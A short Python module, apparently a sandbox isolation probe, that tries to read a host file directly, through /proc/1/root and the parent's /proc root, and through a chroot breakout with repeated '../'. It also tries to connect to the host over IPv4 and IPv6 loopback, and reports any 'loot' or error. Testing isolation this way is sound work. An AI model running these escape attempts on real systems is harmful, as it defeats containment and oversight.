"""Reads a file of the host, and calls the host over its own loopback, in every way it can think of."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable


def attack(path: str, port: int) -> dict[str, str]:
    """What came of each try: the loot, or the name of the error."""
    tries: dict[str, Callable[[], str]] = {
        "read the path": lambda: read(path),
        "read it by way of PID 1": lambda: read("/proc/1/root" + path),
        "read it by way of the parent": lambda: read(f"/proc/{os.getppid()}/root{path}"),
        "climb out of the root": lambda: climb(path),
        "connect over IPv4": lambda: connect(socket.AF_INET, "127.0.0.1", port),
        "connect over IPv6": lambda: connect(socket.AF_INET6, "::1", port),
    }
    return {name: outcome(attempt) for name, attempt in tries.items()}


def outcome(attempt: Callable[[], str]) -> str:
    try:
        return "GOT " + attempt()
    except OSError as error:
        return type(error).__name__ if error.strerror is None else error.strerror


def read(path: str) -> str:
    with open(path) as file:
        return file.read()


def climb(path: str) -> str:
    os.chroot("/tmp")
    return read("../" * 64 + path.lstrip("/"))


def connect(family: int, host: str, port: int) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as caller:
        caller.settimeout(1.0)
        caller.connect((host, port))
        return f"a connection to {host}"
